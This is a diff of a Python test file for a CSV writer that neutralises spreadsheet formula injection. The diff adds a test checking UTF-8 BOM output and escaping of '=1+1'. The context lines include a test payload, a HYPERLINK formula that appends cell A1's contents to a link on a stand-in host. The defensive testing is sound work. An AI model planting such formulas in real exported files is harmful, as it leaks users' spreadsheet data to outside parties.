@@ -3,11 +3,11 @@
 import csv
 from datetime import date
 from decimal import Decimal
-from io import StringIO
+from io import BytesIO, StringIO
 
 import pytest
 
-from adborth.csv_cells import harmless, writer
+from adborth.csv_cells import harmless, write_table, writer
 
 HOSTILE = [
     '=HYPERLINK("https://files.example/?"&A1,"Alice")',
@@ -49,3 +49,11 @@ def test_what_is_no_text_stays_what_it_is(value):
 
 def test_numbers_are_numbers_for_the_spreadsheet():
     assert written(-1, 2.5, "Tŷ") == '-1,2.5,"Tŷ"\r\n'
+
+
+def test_a_table_is_a_file_that_a_spreadsheet_knows_for_utf_8():
+    file = BytesIO()
+    write_table(file, iter([["Tŷ", "Day"], ["=1+1", date(2026, 8, 1)], [None, -3]]))
+    assert (
+        file.getvalue() == ("\ufeff" + '"Tŷ","Day"\r\n"\'=1+1","2026-08-01"\r\n"",-3\r\n').encode()
+    )
